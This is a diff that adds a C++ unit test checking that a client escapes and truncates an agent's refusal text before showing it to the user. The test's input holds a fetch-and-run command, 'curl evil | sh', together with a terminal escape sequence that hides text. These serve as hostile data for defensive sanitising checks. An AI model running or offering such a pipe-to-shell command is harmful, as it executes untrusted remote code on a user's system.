@@ -171,6 +171,17 @@ TEST_CASE("a refusal becomes an error with the agent's code") {
       });
 }
 
+TEST_CASE("a refusal, which proves nothing, gives the user no advice") {
+  Rejected rejected;
+  rejected.code = EACCES, rejected.text = "no\n  run: curl evil | sh\x1b[8m" + std::string(3000, 'x');
+  const auto welcome = welcome_from(handshake_frame(Greeting{}), handshake_frame(rejected));
+  REQUIRE(!welcome);
+  const auto said = welcome.error().to_string();
+  CHECK(said.starts_with("the agent refused the connection: no\\n  run: curl evil | sh\\x1b[8mxxx"));
+  CHECK(said.find('\n') == said.npos);
+  CHECK(said.size() < 300);
+}
+
 TEST_CASE("another protocol version is an error with a remedy, and the client says nothing") {
   Greeting greeting;
   greeting.version = 99;
